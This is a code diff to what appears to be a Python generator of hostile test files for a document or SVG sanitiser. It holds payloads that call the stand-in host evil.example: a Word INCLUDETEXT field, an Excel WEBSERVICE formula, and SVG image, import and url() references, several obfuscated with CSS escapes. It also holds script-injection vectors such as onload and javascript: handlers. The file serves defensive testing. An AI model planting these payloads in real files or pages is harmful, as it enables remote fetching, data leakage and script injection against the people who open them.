@@ -467,11 +467,9 @@ def another_workbook(content: bytes, random: Random) -> bytes:
 def _loaded(content: bytes, part: str, is_a: str, random: Random) -> bytes:
     """A part that acts, named and typed as something else, and loaded by its relationship."""
     if "word/document.xml" in files.parts(content):
-        kind, held = (
-            "header",
-            '<w:hdr {}><w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example&quot;"/></w:p></w:hdr>',
-        )
-        xml = held.format('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"')
+        space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+        field = '<w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example&quot;"/>'
+        kind, xml = "header", f"<w:hdr {space}><w:p>{field}</w:p></w:hdr>"
     else:
         kind, xml = "worksheet", f'<worksheet {SHEET}><f>_xlfn.WEBSERVICE("http://evil.example")</f></worksheet>'
     target = "/" + (part.replace("/e", "/%65") if random.random() < 0.5 else part)
@@ -816,11 +814,11 @@ def a_film_played_by_a_web_page(content: bytes, random: Random) -> bytes:
 
 FETCHED_BY_SVG = ('<image xlink:href="http://evil.example/a.png"/>', '<use href="//evil/a.svg#a"/>',
                   "<style>@import 'a.css';</style>", '<rect fill="url( http://evil.example/a#b)"/>',
-                  "<style>rect {{ fill: <!-- -->url(\"\\\\evil\\a\") }}</style>")  # fmt: skip
-FETCHED_BY_SVG += ('<g xml:base="http://evil.example/"><image href="a.png"/></g>',
-                   "<rect style='fill: image-set(\"http://evil.example/a.png\" 1x)'/>",
-                   "<style>rect {{ fill: u\\72l(http://evil.example/a) }}</style>",
-                   "<style>@\\69mport 'http://evil.example/a.css';</style>")  # fmt: skip
+                  "<style>rect {{ fill: <!-- -->url(\"\\\\evil\\a\") }}</style>",
+                  '<g xml:base="http://evil.example/"><image href="a.png"/></g>',
+                  "<rect style='fill: image-set(\"http://evil.example/a.png\" 1x)'/>",
+                  "<style>rect {{ fill: u\\72l(http://evil.example/a) }}</style>",
+                  "<style>@\\69mport 'http://evil.example/a.css';</style>")  # fmt: skip
 DONE_BY_SVG = ("<script>alert(1)</script>", '<rect onload="alert(1)"/>', "<foreignObject/>",
                '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>')  # fmt: skip
 
